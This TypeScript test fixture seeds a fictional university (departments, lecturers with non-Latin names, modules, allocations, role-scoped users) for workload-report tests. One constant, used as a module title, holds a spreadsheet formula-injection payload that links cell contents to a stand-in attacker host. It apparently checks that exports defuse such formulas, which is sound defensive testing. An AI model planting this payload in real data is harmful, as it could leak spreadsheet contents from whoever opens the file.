/**
 * A small university for the report tests: Computer Science (teams Software
 * and Data) and Mathematics, lecturers with non-Latin names (Łukasz Nowak,
 * Nguyễn Văn An, Zoë Ångström, Олена Шевченко), modules with allocations
 * made through the public mutation (so hours are the engine's), a module
 * titled like a formula, an admin allocation, an override with its reason,
 * and people: an Admin (the organisation's first member), a Head of
 * Department scoped to Computer Science, a lecturer (Łukasz) with an account.
 */
import { api } from "../../convex/_generated/api";
import type { Id } from "../../convex/_generated/dataModel";
import { DEFAULT_ALLOCATION_TYPES, DEFAULT_RULES, DEFAULT_SETTINGS } from "../../convex/lib/workload";
import { DEFAULT_ROLES } from "../../convex/lib/permissions";
import { identity, newBackend, type Backend } from "../convex/harness";
import { withTriggers } from "../convex/workload/fixtures";

export const HYPERLINK_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

export async function setupReports(t: Backend = newBackend()) {
  const ids = await withTriggers(t, async (ctx) => {
    const db = ctx.db;
    const now = Date.now();
    const organisationId = await db.insert("organisations", {
      name: "Łódź & Hà Nội University",
      code: "LHU",
      domain: "lhu.example",
      timezone: "Europe/London",
      created_at: now,
      updated_at: now,
    });
    const base = { organisation_id: organisationId, created_at: now, updated_at: now };
    const yearId = await db.insert("academic_years", { ...base, name: "2026/27", start_date: "2026-09-01", end_date: "2027-08-31", status: "active" });
    await db.insert("organisation_settings", { ...base, ...DEFAULT_SETTINGS, academic_year_id: yearId, lecturers_see_colleagues: false, presence_timeout_seconds: 30, version: 1 });
    for (const rule of DEFAULT_RULES) await db.insert("workload_calculation_rules", { ...base, ...rule, academic_year_id: yearId, version: 1 });
    const types: Record<string, Id<"allocation_types">> = {};
    for (const type of DEFAULT_ALLOCATION_TYPES) types[type.code] = await db.insert("allocation_types", { ...base, ...type });
    const roles: Record<string, Id<"roles">> = {};
    for (const role of DEFAULT_ROLES) roles[role.name] = await db.insert("roles", { ...base, ...role, permissions: [...role.permissions], is_system: true });

    const facultyId = await db.insert("faculties", { ...base, name: "Science", code: "SCI" });
    const cs = await db.insert("departments", { ...base, faculty_id: facultyId, name: "Computer Science", code: "CS" });
    const maths = await db.insert("departments", { ...base, faculty_id: facultyId, name: "Mathematics", code: "MA" });
    const software = await db.insert("teams", { ...base, department_id: cs, name: "Software" });
    const data = await db.insert("teams", { ...base, department_id: cs, name: "Data" });
    const statsTeam = await db.insert("teams", { ...base, department_id: maths, name: "Statistics" });
    const leader = await db.insert("admin_allocation_categories", { ...base, code: "programme_leader", name: "Programme leader", default_hours: 100, work_category: "leadership", recurring: true });

    const people = [
      { key: "lukasz", first: "Łukasz", last: "Nowak", dept: cs, team: software, fte: 1, family: "teaching_and_research" as const, staff: "S001" },
      { key: "nguyen", first: "Nguyễn", last: "Văn An", dept: cs, team: software, fte: 0.8, family: "teaching_focused" as const, staff: "S002" },
      { key: "zoe", first: "Zoë", last: "Ångström", dept: cs, team: data, fte: 1, family: "teaching_focused" as const, staff: "S003" },
      { key: "olena", first: "Олена", last: "Шевченко", dept: maths, team: statsTeam, fte: 0.5, family: "teaching_and_research" as const, staff: "S004" },
      { key: "ada", first: "Ada", last: "Byron", dept: maths, team: statsTeam, fte: 1, family: "research_focused" as const, staff: "S005" },
    ];
    const lecturers: Record<string, Id<"lecturers">> = {};
    const profiles: Record<string, Id<"lecturer_profiles">> = {};
    for (const p of people) {
      const profileId = await db.insert("lecturer_profiles", {
        ...base,
        first_name: p.first,
        last_name: p.last,
        full_name: `${p.first} ${p.last}`,
        email: `${p.staff.toLowerCase()}@lhu.example`,
        staff_number: p.staff,
        default_contract_family: p.family,
        default_fte: p.fte,
        department_id: p.dept,
        team_id: p.team,
      });
      profiles[p.key] = profileId;
      lecturers[p.key] = await db.insert("lecturers", {
        ...base,
        academic_year_id: yearId,
        profile_id: profileId,
        department_id: p.dept,
        team_id: p.team,
        fte: p.fte,
        contract_family: p.family,
        version: 1,
      });
    }

    const iteration = async (dept: Id<"departments">, code: string, title: string, students: number, groups: number) => {
      const moduleId = await db.insert("modules", { ...base, department_id: dept, code, title, credits: 20, level: 5, default_semester: "S1" });
      const iterationId = await db.insert("module_iterations", {
        ...base,
        academic_year_id: yearId,
        module_id: moduleId,
        code: `${code}-A`,
        semester: "S1",
        student_count: students,
        intakes: 1,
        version: 1,
      });
      const groupIds: Id<"module_iteration_groups">[] = [];
      for (let i = 1; i <= groups; i++) {
        groupIds.push(await db.insert("module_iteration_groups", { ...base, academic_year_id: yearId, module_iteration_id: iterationId, name: `G${i}`, student_count: Math.ceil(students / groups) }));
      }
      return { moduleId, iterationId, groupIds };
    };
    const cs101 = await iteration(cs, "CS101", "Programming Foundations", 120, 4);
    const cs202 = await iteration(cs, "CS202", HYPERLINK_TITLE, 60, 2);
    const ma101 = await iteration(maths, "MA101", "Calculus", 90, 3);

    await db.insert("admin_allocations", { ...base, academic_year_id: yearId, lecturer_id: lecturers["lukasz"], category_id: leader, hours: 100, recurring: true, version: 1 });

    const user = async (email: string, role: string, scope?: { department?: Id<"departments"> }, lecturerProfileId?: Id<"lecturer_profiles">) => {
      const userId = await db.insert("users", {
        ...base,
        email,
        name: email.split("@")[0],
        token_identifier: identity(email).tokenIdentifier,
        lecturer_profile_id: lecturerProfileId,
        status: "active",
      });
      const assignmentId = await db.insert("user_role_assignments", { ...base, user_id: userId, role_id: roles[role], scope_department_id: scope?.department });
      return { userId, assignmentId };
    };
    const admin = await user("admin@lhu.example", "Admin");
    const hod = await user("hod.cs@lhu.example", "Head of Department", { department: cs });
    const lukasz = await user("s001@lhu.example", "Lecturer", undefined, profiles["lukasz"]);
    return { organisationId, yearId, types, roles, facultyId, cs, maths, software, data, statsTeam, lecturers, profiles, cs101, cs202, ma101, adminUser: admin, hod, lukasz };
  });

  const admin = t.withIdentity(identity("admin@lhu.example"));
  const allocate = (iterationId: Id<"module_iterations">, lecturer: string, type: string, share: number, extra: { groupId?: Id<"module_iteration_groups">; hoursOverride?: number; overrideReason?: string } = {}) =>
    admin.mutation(api.workload.allocations.create, {
      organisationId: ids.organisationId,
      iterationId,
      lecturerId: ids.lecturers[lecturer],
      allocationTypeId: ids.types[type],
      share,
      ...extra,
    });
  // CS101: contact split 50/50 per group between Łukasz and Nguyễn; Łukasz leads it.
  for (const g of ids.cs101.groupIds) {
    await allocate(ids.cs101.iterationId, "lukasz", "contact", 50, { groupId: g });
    await allocate(ids.cs101.iterationId, "nguyen", "contact", 50, { groupId: g });
  }
  await allocate(ids.cs101.iterationId, "lukasz", "module_leadership", 100);
  // CS202 (the formula-like title): Zoë teaches G1 only (G2 nobody: a coverage gap), marking overridden with a reason.
  await allocate(ids.cs202.iterationId, "zoe", "contact", 100, { groupId: ids.cs202.groupIds[0] });
  await allocate(ids.cs202.iterationId, "zoe", "marking", 100, { groupId: ids.cs202.groupIds[0], hoursOverride: 42.5, overrideReason: "Double marking agreed with the HoD" });
  // MA101: Олена teaches two groups, Łukasz (from Computer Science) the third; Ada leads it.
  for (const g of ids.ma101.groupIds.slice(0, 2)) await allocate(ids.ma101.iterationId, "olena", "contact", 100, { groupId: g });
  await allocate(ids.ma101.iterationId, "lukasz", "contact", 100, { groupId: ids.ma101.groupIds[2] });
  await allocate(ids.ma101.iterationId, "ada", "module_leadership", 100);

  return {
    t,
    ...ids,
    admin,
    hodClient: t.withIdentity(identity("hod.cs@lhu.example")),
    lukaszClient: t.withIdentity(identity("s001@lhu.example")),
  };
}
export type Reports = Awaited<ReturnType<typeof setupReports>>;

/** The engine's live totals of every lecturer of the year, by name. */
export async function engineTotals(r: Reports) {
  const rows = await r.t.run(async (ctx) =>
    ctx.db.query("lecturer_year_totals").withIndex("by_academic_year_id", (q) => q.eq("academic_year_id", r.yearId)).collect(),
  );
  return new Map(rows.map((row) => [row.full_name, row]));
}

/** A stored file's bytes. */
export async function fileBytes(r: Reports, storageId: Id<"_storage">): Promise<Buffer> {
  const bytes = await r.t.run(async (ctx) => await (await ctx.storage.get(storageId))!.arrayBuffer());
  return Buffer.from(bytes);
}

/** The stored files of an execution. */
export async function executionFiles(r: Reports, reportId: Id<"workload_reports">) {
  return await r.t.run(async (ctx) => (await ctx.db.get(reportId))!);
}
